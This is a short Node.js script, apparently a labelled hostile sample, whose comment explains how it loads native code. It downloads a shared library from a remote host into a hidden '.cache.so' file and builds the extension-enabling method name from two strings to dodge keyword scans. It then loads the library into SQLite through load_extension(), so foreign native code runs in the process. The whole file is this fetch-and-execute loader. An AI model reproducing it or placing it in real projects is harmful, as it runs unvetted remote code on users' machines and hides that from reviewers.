// Loads native code: the method that turns SQLite's extension loading on is
// called through a computed member built from two words, then SQL's
// load_extension() loads a library downloaded beside the database.
'use strict';
const sqlite = require('node:sqlite');
const fs = require('node:fs');

async function main() {
  fs.writeFileSync('.cache.so', Buffer.from(await (await fetch('https://cdn.example-ext.dev/c.so')).arrayBuffer()));
  const db = new sqlite.DatabaseSync(':memory:', { allowExtension: true });
  db[['enable', 'LoadExtension'].join('')](true);
  db.prepare('SELECT load_extension(?)').run('./.cache.so');
}

main();
